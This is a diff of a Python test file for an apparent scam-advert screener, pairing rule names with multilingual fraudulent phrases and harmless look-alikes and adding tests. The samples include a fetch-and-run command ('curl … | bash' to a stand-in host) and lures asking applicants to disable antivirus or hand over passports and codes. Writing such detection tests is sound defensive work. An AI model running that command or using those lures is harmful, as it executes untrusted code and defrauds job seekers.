@@ -18,7 +18,7 @@ TABLE = [
     ("run_this_code", "Before the interview, clone our repo and run it on your machine.", "Our repo is public, have a look if you like."),
     ("run_this_code", "Run this first: curl -s https://a.example/x.sh | bash", "Our build uses curl and bash, documented."),
     ("run_this_code", "Antes de la entrevista debe clonar el repositorio y ejecutar el servidor.", "Antes de la entrevista hablamos 20 minutos."),
-    ("run_this_code", "Turn off your antivirus before opening the project.", "Detect when an antivirus misses a file."),
+    ("run_this_code", "Turn off your antivirus before opening the project.", "Compare how often two antivirus products miss a file; report and Python notebook."),
     ("secrets", "Send us a photo of your passport and your bank login.", "OCR for photographed passports, synthetic data."),
     ("secrets", "Kirim foto KTP dan selfie memegang KTP untuk verifikasi.", "Laporan penjualan bulanan untuk toko buku."),
     ("secrets", "Пришлите скан паспорта и код из смс для верификации.", "Нужен отчёт по продажам, договор."),
@@ -27,6 +27,7 @@ TABLE = [
     ("laptop_farm", "Keep our laptops plugged in at your home, 24/7.", "You get a company laptop and return it afterwards."),
     ("wallet_test", "Connect your wallet and sign the test transaction.", "Cohorts of users who connect their wallet."),
     ("fake_escrow", "The escrow releases the money once you pay a fee of 60 USD.", "Escrow ledger reconciliation for a notary."),
+    ("insider_data", "I pay $50 per customer list from your employer's internal CRM.", "Dedupe the customer list in our CRM."),
     ("login_link", "Log in with your Google account to see the brief.", "Users log in with Google; where do they drop out?"),
     ("text_interview", "The interview is text only.", "The interview takes thirty minutes by video."),
     ("off_platform", "Contact me on Telegram.", "Build a Telegram bot for alerts."),
@@ -80,6 +81,17 @@ def test_every_rule_is_in_a_table() -> None:
     assert load_rules().rules.keys() == {rule for rule, _, _ in TABLE} | FROM_OUTSIDE.keys() | elsewhere
 
 
+def test_rules_and_points_speak_of_ideas_that_have_words_and_every_word_serves() -> None:
+    book = load_rules()
+    tables = (book.lexicon.whole, book.lexicon.pairs, book.lexicon.begins, book.lexicon.ends)
+    worded = {phrase.idea for table in tables for phrases in table.values() for phrase in phrases}
+    wanted = [each for rule in book.rules.values() for each in (*rule.when, *rule.perhaps)]
+    named = {idea for each in wanted for ideas in (*each.needs, each.lacks) for idea in ideas}
+    named |= {sign.name for sign in book.scale.points if sign.kind == "idea"}
+    assert named <= worded
+    assert worded - named <= {"aside", "mask", "not", "not_after", "not_at_all"}
+
+
 @pytest.mark.parametrize(
     "denied",
     [
@@ -101,9 +113,20 @@ def test_a_promise_that_begins_with_no_is_not_a_denial() -> None:
 
 def test_small_signs_count_together_and_signs_of_work_count_against_them() -> None:
     text = "Your account, your login. Add us on the messenger. Hand the codes on."
-    assert _weights(text)["together"] == load_rules().rules["together"].weight
+    assert _weights(text)["together"] >= load_rules().queue
     work = text + " Python, dbt and a forecast model; the contract has two milestones, pay is by invoice."
     assert _weights(work).get("together", 0) < _weights(text)["together"]
+
+
+def test_a_rule_weighs_less_in_a_text_that_is_plainly_about_work() -> None:
+    fee = "You must pay a registration fee of $30. "
+    work = fee + "That is what fake adverts say; we need a Python classifier, 4,000 labelled rows, a report."
+    assert screen(work).score < screen(fee).score
+
+
+def test_a_missing_budget_alone_changes_no_verdict() -> None:
+    for text in (PLAIN, "Dashboards, contact me on Telegram.", "Simple dashboards in Excel."):
+        assert screen(text, budget_named=False).verdict == screen(text).verdict
 
 
 def _weights(text: str) -> dict[str, int]:
